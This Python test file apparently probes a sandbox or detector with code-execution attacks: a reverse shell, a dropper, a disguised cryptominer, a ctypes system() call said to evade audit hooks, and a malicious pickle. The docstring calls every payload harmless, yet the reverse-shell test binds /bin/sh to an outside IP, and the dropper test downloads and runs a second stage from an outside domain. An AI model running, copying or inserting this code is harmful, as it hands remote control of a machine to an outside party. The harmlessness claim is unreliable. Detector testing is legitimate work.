"""Probes of code execution: a reverse shell, a dropped second stage, a miner, ctypes system()
and a pickle. Each payload is harmless: it writes a marker into the loot folder, which the probe
then checks."""

import ctypes
import http.client
import os
import pickle  # the attack under test: loading an untrusted pickle runs its reduce step
import socket
import subprocess

MINER = "#!/bin/sh\necho \"miner started: $*\" > '{loot}/miner.marker'\n"


def test_reverse_shell(loot):
    conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    conn.connect(("185.244.25.14", 31337))
    # The shell reads the attacker's command from the socket and answers into it.
    shell = subprocess.Popen(["/bin/sh", "-i"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())
    conn.close()
    try:
        assert shell.wait(timeout=30) == 0
    finally:
        shell.kill()
    assert loot.marker("reverse-shell").strip() == "reverse-shell-ran"


def test_dropper(loot, tmp_path):
    conn = http.client.HTTPConnection("cdn-update-check.top", 80)
    conn.request("GET", "/stage2/x86_64")
    stage2 = conn.getresponse().read()
    conn.close()
    payload = tmp_path / ".cache-update"
    payload.write_bytes(stage2)
    os.chmod(payload, 0o755)
    subprocess.run([str(payload)], check=True)
    assert loot.marker("dropper").startswith("stage 2 ran as uid")


def test_cryptominer(loot, home):
    miner = home / ".cache" / ".xmrig" / "xmrig"
    miner.parent.mkdir(parents=True)
    miner.write_bytes(MINER.format(loot=loot.folder).encode())
    os.chmod(miner, 0o755)
    subprocess.run([str(miner), "-o", "pool.supportxmr.com:443", "--donate-level", "1", "--background"],
                   check=True)
    assert "-o pool.supportxmr.com:443" in loot.marker("miner")


def test_ctypes_native(loot):
    libc = ctypes.CDLL("libc.so.6")
    system = libc.system  # below every audit hook: no spawn event follows
    assert system(f"echo ctypes-ran > '{loot.folder}/ctypes.marker'".encode()) == 0
    assert loot.marker("ctypes").strip() == "ctypes-ran"


class Reduce:
    """What a malicious model file holds: unpickling it calls os.system."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def test_pickle_payload(loot, tmp_path):
    model = tmp_path / "model.pkl"
    model.write_bytes(pickle.dumps(Reduce(f"echo pickle-ran > '{loot.folder}/pickle.marker'")))
    with open(model, "rb") as f:
        assert pickle.load(f) == 0
    assert loot.marker("pickle").strip() == "pickle-ran"
